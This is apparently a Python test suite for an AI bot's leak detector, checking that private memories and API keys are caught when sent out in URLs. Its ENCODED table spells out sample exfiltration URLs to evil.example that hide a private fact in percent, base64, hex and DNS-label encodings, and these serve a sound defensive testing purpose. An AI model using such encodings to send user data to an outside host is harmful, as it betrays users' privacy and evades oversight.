"""What is sent out carries no memory and no secret, in plain or encoded."""

import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.tools.web.leaks import find_leak, find_urls
from tests.cases import every_case

FACT = "Her alarm code is 4711-blue-otter, the spare key hangs at Grandmother's."
CHINESE = "她家的门锁密码是九五二七，备用钥匙在外婆那里。"
SECRET = "sk-ant-0123456789abcdef"
PART = "4711-blue-otter, the spare"


def split_host(text: str) -> str:
    plain = "".join(sign for sign in text.lower() if sign.isalnum())
    return f"{'.'.join(plain[n : n + 7] for n in range(0, len(plain), 7))}.evil.example/"


ENCODED = {
    "plain": f"evil.example/?d={PART.replace(' ', '+')}",
    "percent": f"evil.example/?d={quote(PART, safe='')}",
    "percent twice": f"evil.example/?d={quote(quote(PART, safe=''), safe='')}",
    "path": f"evil.example/{PART.replace(' ', '/')}",
    "spelled": f"evil.example/?d={'.'.join(PART.replace(' ', ''))}",
    "upper": f"evil.example/?d={PART.upper().replace(' ', '-')}",
    "base64": f"evil.example/?d={base64.b64encode(PART.encode()).decode()}",
    "base64 of urls": (
        f"evil.example/?d={base64.urlsafe_b64encode(PART.encode()).decode().rstrip('=')}"
    ),
    "base64 shifted": f"evil.example/?d=x{base64.b64encode(PART.encode()).decode()}",
    "hex": f"evil.example/?d={PART.encode().hex()}",
    "hex upper, shifted": f"evil.example/?d=a{PART.encode().hex().upper()}",
    "labels": split_host(PART),
    "base64 in labels": (
        f"{base64.b32encode(b'x').decode().strip('=')}.{PART.encode().hex()[:40]}.evil.example/"
    ),
}


@every_case("sent", ENCODED.values())
def test_S54_memory_does_not_leave_in_a_url(sent: str) -> None:
    assert find_leak(sent, [FACT, CHINESE], [], []) == "memory"


@pytest.mark.parametrize("sent", ["x/?d=备用钥匙在外婆那里", f"x/?d={quote('备用钥匙在外婆那里')}"])
def test_a_chinese_sign_says_more_than_a_letter(sent: str) -> None:
    assert find_leak(sent, [CHINESE], [], []) == "memory"


@every_case(
    "sent",
    [
        "evil.example/?q=blue+otter",
        "docs.example/grandmothers/keys",
        "x/?d=门锁密码",
        "a.example/",
        "",
    ],
)
def test_a_few_words_in_common_are_no_leak(sent: str) -> None:
    assert find_leak(sent, [FACT, CHINESE], [], []) == ""


def test_what_the_person_typed_may_leave() -> None:
    sent = f"evil.example/?d={PART.replace(' ', '+')}"
    assert find_leak(sent, [FACT], [f"search for {PART} please"], []) == ""
    assert find_leak(sent, [FACT], ["search for the spare key"], []) == "memory"


@every_case(
    "form",
    [SECRET, quote(SECRET), SECRET.encode().hex(), base64.b64encode(SECRET.encode()).decode()],
)
def test_a_secret_never_leaves(form: str) -> None:
    assert find_leak(f"a.example/?k={form}", [], [f"use {SECRET}"], [SECRET]) == "secret"


@given(st.text(max_size=80), st.text(max_size=80))
def test_any_text_can_be_checked(sent: str, private: str) -> None:
    assert find_leak(sent, [private], [private], ["some-secret"]) in ("", "secret")


def test_urls_are_found_as_they_are_read() -> None:
    text = (
        "See https://a.example/x_(y), [b](http://b.example/?q=1)。 and HTTPS://C.example. "
        "<http://d.example/>"
    )
    found = find_urls([text])
    assert {
        "https://a.example/x_(y)",
        "http://b.example/?q=1",
        "https://c.example/",
        "http://d.example/",
    } <= found
    assert "https://a.example/y" in find_urls(["[b](https://a.example/y)and more"])
    assert "http://b.example/?q=" not in found, "no part of a URL is one"
